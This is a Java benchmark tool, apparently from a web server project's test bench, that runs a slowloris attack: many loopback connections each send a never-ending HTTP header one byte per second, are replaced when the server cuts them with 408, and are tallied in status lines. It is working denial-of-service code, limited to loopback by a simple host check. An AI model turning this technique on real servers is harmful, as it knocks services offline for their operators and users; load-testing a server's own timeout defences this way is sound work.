import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketException;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.util.concurrent.atomic.AtomicLong;

/**
 * The slowloris attack, for bench/slowloris: holds CONNECTIONS connections to HOST:PORT that send a request
 * head one byte per second and never finish it. When the server cuts one (Porter: 408 after its header
 * timeout), it is counted and replaced at once, so the attack keeps CONNECTIONS open for SECONDS.
 *
 * <p>While the file PAUSE_FILE exists the attack pauses: every connection is closed, and reopened when the file
 * goes. Prints {@code open N} each time all connections are open, {@code paused} each time all are closed, a
 * status line every 5 s, and a summary at the end. Single-file program:
 * {@code java SlowLoris.java HOST PORT CONNECTIONS SECONDS [PAUSE_FILE]}. Connects to loopback only.
 */
public final class SlowLoris {

    /** Never completes: after the request line come header fields without end, one byte per second. */
    private static final byte[] HEAD = ("GET /plaintext HTTP/1.1\r\nHost: test\r\n"
            + "X-Slow: a\r\n".repeat(200)).getBytes(StandardCharsets.US_ASCII);

    private static final AtomicLong open = new AtomicLong();
    private static final AtomicLong cut408 = new AtomicLong();
    private static final AtomicLong closed = new AtomicLong();
    private static final AtomicLong answered = new AtomicLong();
    private static final AtomicLong refused = new AtomicLong();
    private static volatile boolean paused;

    /** Runs the attack: {@code HOST PORT CONNECTIONS SECONDS}; exits 2 on bad arguments or a non-loopback host. */
    public static void main(String[] args) throws Exception {
        if (args.length != 4 && args.length != 5) {
            System.err.println("usage: java SlowLoris.java HOST PORT CONNECTIONS SECONDS [PAUSE_FILE]");
            System.exit(2);
        }
        String host = args[0];
        if (!host.equals("127.0.0.1") && !host.equals("::1") && !host.equals("localhost")) {
            System.err.println("SlowLoris: loopback targets only");
            System.exit(2);
        }
        int port = Integer.parseInt(args[1]);
        int connections = Integer.parseInt(args[2]);
        long deadline = System.nanoTime() + Long.parseLong(args[3]) * 1_000_000_000L;
        java.nio.file.Path pauseFile = args.length == 5 ? java.nio.file.Path.of(args[4]) : null;
        for (int i = 0; i < connections; i++) {
            Thread.ofVirtual().start(() -> {
                while (System.nanoTime() < deadline) {
                    if (paused) sleep(100);
                    else attack(host, port, deadline);
                }
            });
        }
        long nextStatus = System.nanoTime() + 5_000_000_000L;
        boolean reported = false;
        while (System.nanoTime() < deadline) {
            boolean pause = pauseFile != null && java.nio.file.Files.exists(pauseFile);
            if (pause != paused) {
                paused = pause;
                reported = false;
            }
            if (!reported && (paused ? open.get() == 0 : open.get() >= connections)) {
                System.out.println(paused ? "paused" : "open " + open.get());
                reported = true;
            }
            if (System.nanoTime() >= nextStatus) {
                System.out.println(status());
                nextStatus += 5_000_000_000L;
            }
            System.out.flush();
            Thread.sleep(50);
        }
        System.out.println("slowloris: " + status());
        System.exit(0);
    }

    private static String status() {
        return "open " + open.get() + ", cut with 408 " + cut408.get() + ", closed without 408 " + closed.get()
                + ", answered " + answered.get() + ", connects refused " + refused.get();
    }

    /** One slow connection, until the server cuts it or the attack ends. */
    private static void attack(String host, int port, long deadline) {
        Socket s = new Socket();
        try {
            s.connect(new InetSocketAddress(host, port), 10_000);
        } catch (IOException e) {
            refused.incrementAndGet();
            sleep(1_000);
            return;
        }
        open.incrementAndGet();
        StringBuilder got = new StringBuilder();
        try (s) {
            s.setSoTimeout(1_000);
            OutputStream out = s.getOutputStream();
            InputStream in = s.getInputStream();
            for (int i = 0; System.nanoTime() < deadline && !paused; i = (i + 1) % HEAD.length) {
                out.write(HEAD[i]);
                long pause = System.nanoTime() + 1_000_000_000L;
                while (System.nanoTime() < pause && !paused) {
                    int b;
                    try {
                        b = in.read();
                    } catch (SocketTimeoutException quiet) {
                        break; // a quiet second: the next byte
                    }
                    if (b < 0) {
                        count(got);
                        return;
                    }
                    got.append((char) b);
                }
            }
        } catch (SocketException e) {
            count(got); // reset or broken pipe: the server closed it
        } catch (IOException e) {
            count(got);
        } finally {
            open.decrementAndGet();
        }
    }

    private static void count(StringBuilder got) {
        if (got.indexOf("HTTP/1.1 408 ") == 0) cut408.incrementAndGet();
        else if (got.isEmpty()) closed.incrementAndGet();
        else answered.incrementAndGet();
    }

    private static void sleep(long millis) {
        try {
            Thread.sleep(millis);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }
}
